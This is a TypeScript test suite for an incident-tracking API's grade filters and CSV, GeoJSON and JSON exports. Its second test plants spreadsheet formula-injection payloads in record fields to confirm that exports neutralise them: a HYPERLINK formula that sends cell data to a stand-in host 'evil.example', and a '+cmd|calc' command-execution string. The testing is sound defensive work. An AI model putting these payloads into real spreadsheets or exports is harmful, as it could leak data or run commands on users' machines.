/** @module The API suite, filters by grade and the CSV, GeoJSON and JSON exports. */
/* eslint-disable @typescript-eslint/no-unsafe-call, @typescript-eslint/no-unsafe-return -- JSON answers are checked by expect(), not by types */
import { beforeAll, describe, expect, it } from 'vitest'
import type { Store } from '../../storage/store.js'
import { parseCsv } from '../../importers/csv.js'
import type { ApiHarness, Json } from './api-harness.js'

/** Registers the suite's tests of filters by grade and the CSV, GeoJSON and JSON exports. */
export function exportsContract(h: ApiHarness): void {
  const { call, article, name } = h
  describe('exports', () => {
    let store: Store
    beforeAll(() => {
      store = h.store
    })

    it('filters incidents, totals and every export by grade', async () => {
      const made: { incident: string; claim: string }[] = []
      for (const n of [3, 4]) {
        const p = await call('POST', '/api/sources', { token: 'editor', json: article(n, '2018-03-0' + String(n)) })
        const claim = p.json.claims[0].id as string
        const m = await call('POST', `/api/claims/${claim}/move`, { token: 'editor', json: { incidentId: null, reason: 'new strike' } })
        made.push({ incident: m.json.incidentId as string, claim })
      }
      await store.incidents.update(made[1]!.incident as never, { grade: 'fair' }, { actor: 'test', why: 'graded' })
      const window = 'from=2018-03-01&to=2018-03-31'
      const listed = await call('GET', `/api/incidents?${window}&grade=fair`)
      expect(listed.json).toMatchObject({ total: 1, items: [{ id: made[1]!.incident, grade: 'fair' }] })
      expect((await call('GET', `/api/incidents?${window}`)).json.total).toBe(2)
      const totals = await call('GET', `/api/totals?groupBy=year&${window}&grade=fair`)
      expect(totals.json.rows).toEqual([{ group: '2018', measure: 'killed', category: 'total', low: 4, high: 4, incidents: 1 }])
      const csv = parseCsv((await call('GET', `/api/export/incidents.csv?${window}&grade=fair`)).text)
      expect(csv.slice(1).map((r) => [r[0], r[csv[0]!.indexOf('grade')]])).toEqual([[made[1]!.incident, 'fair']])
      const claims = parseCsv((await call('GET', `/api/export/claims.csv?${window}&grade=fair`)).text)
      expect(claims.slice(1).map((r) => r[0])).toEqual([made[1]!.claim])
      const json = await call('GET', `/api/export/incidents.json?${window}&grade=fair`)
      expect(json.json).toMatchObject({ filter: { grade: 'fair' }, incidents: [{ id: made[1]!.incident }] })
      const geo = await call('GET', `/api/export/incidents.geojson?${window}&grade=weak`)
      expect(geo.json.features).toEqual([])
      const bad = await call('GET', `/api/incidents?grade=certain`)
      expect({ status: bad.status, field: bad.json.error.field }).toEqual({ status: 400, field: 'query.grade' })
    })

    it('exports CSV with no cell a spreadsheet would execute, and GeoJSON with precision', async () => {
      const evil = `=HYPERLINK("http://evil.example/?"&A1,"click") ${name} killed 6 people`
      const p = await call('POST', '/api/sources', { token: 'editor', json: { text: evil, published: '2017-02-02', publisher: '@SUM(1+1)', title: '-2+3' } })
      const claimId = p.json.claims[0].id as string
      const m = await call('POST', `/api/claims/${claimId}/move`, { token: 'editor', json: { incidentId: null, reason: '+cmd|calc' } })
      const incidentId = m.json.incidentId as string
      await store.incidents.update(incidentId as never, { actor: '=1+1', target: '\t=2', place: { name: '+Miranshah', admin1: '-North', country: 'PK', lat: 33.0, lon: 70.07, precision: 'locality' } }, { actor: 'test' })
      await call('PATCH', `/api/claims/${claimId}`, { token: 'editor', json: { edit: { claimant: '@local officials' }, reason: 'named' } })
      for (const path of ['/api/export/incidents.csv?from=2017-01-01&to=2017-12-31', `/api/export/claims.csv?sourceId=${p.json.source.id}`, '/api/export/claims.csv?from=2017-01-01&to=2017-12-31']) {
        const r = await call('GET', path)
        expect(r.status).toBe(200)
        expect(r.headers.get('content-type')).toContain('text/csv')
        const rows = parseCsv(r.text)
        expect(rows.length).toBe(2)
        expect(rows[1]!.length).toBe(rows[0]!.length)
        for (const cell of rows.flat()) expect(/^[=+\-@\t\r]/.test(cell), `${path}: ${cell}`).toBe(false)
        expect(rows.flat().some((c) => /^'[=+\-@]/.test(c))).toBe(true)
      }
      const inc = parseCsv((await call('GET', '/api/export/incidents.csv?from=2017-01-01&to=2017-12-31')).text)
      const header = inc[0]!
      const row = Object.fromEntries(header.map((h, i) => [h, inc[1]![i]]))
      expect(row).toMatchObject({ id: incidentId, actor: "'=1+1", killed_total_low: '6', killed_total_high: '6', source_ids: p.json.source.id, publishers: "'@SUM(1+1)" })
      const geo = await call('GET', '/api/export/incidents.geojson?from=2017-01-01&to=2017-12-31')
      expect(geo.json.type).toBe('FeatureCollection')
      expect(geo.json.features).toEqual([expect.objectContaining({ geometry: { type: 'Point', coordinates: [70.07, 33.0] }, properties: expect.objectContaining({ id: incidentId, precision: 'locality', killedLow: 6 }) })])
      const json = await call('GET', '/api/export/incidents.json?from=2017-01-01&to=2017-12-31')
      expect(json.json.incidents.map((i: Json) => i.id)).toEqual([incidentId])
    })
  })
}
